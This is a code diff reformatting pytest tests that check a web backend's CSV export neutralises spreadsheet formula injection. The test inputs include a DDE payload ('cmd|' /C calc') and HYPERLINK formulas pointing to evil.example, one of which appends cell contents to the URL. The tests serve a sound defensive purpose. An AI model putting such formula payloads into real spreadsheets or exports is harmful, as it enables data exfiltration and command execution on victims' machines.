@@ -17,8 +17,21 @@ from backend.programmes import service
 from tests.backend.world import Api, build_world, web_login
 
 
-@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example\",\"klik\")", "+1+cmd|' /C calc'!A0",
-                                   "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "=1+1", "-", "+", "@"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example","klik")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTab",
+        "\rCR",
+        "=1+1",
+        "-",
+        "+",
+        "@",
+    ],
+)
 def test_formula_like_cells_are_neutralised(value):
     assert safe_cell(value) == "'" + value
 
@@ -40,10 +53,23 @@ def test_programme_named_like_a_formula_reaches_the_results_csv_neutralised(app,
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Se resultater")'
     with app.app_context():
         ahmed = db.session.get(User, w.users["ahmed"])
-        p = service.save_programme(ahmed, None, {
-            "name": evil, "description": "", "organization_id": w.orgs["Jobcenter"], "capacity": 20,
-            "team_size": None, "hours_per_week": None, "start_rule": "", "active": True,
-            "phases": [("Forløb", 16)], "effects": [("job", 60, 12)], "activities": []})
+        p = service.save_programme(
+            ahmed,
+            None,
+            {
+                "name": evil,
+                "description": "",
+                "organization_id": w.orgs["Jobcenter"],
+                "capacity": 20,
+                "team_size": None,
+                "hours_per_week": None,
+                "start_rule": "",
+                "active": True,
+                "phases": [("Forløb", 16)],
+                "effects": [("job", 60, 12)],
+                "activities": [],
+            },
+        )
         service.enrol(db.session.get(User, w.users["ahmed"]), w.youths["mads"], p, date(2026, 1, 5), None)
         db.session.remove()
     web_login(client, w.users["ahmed"])
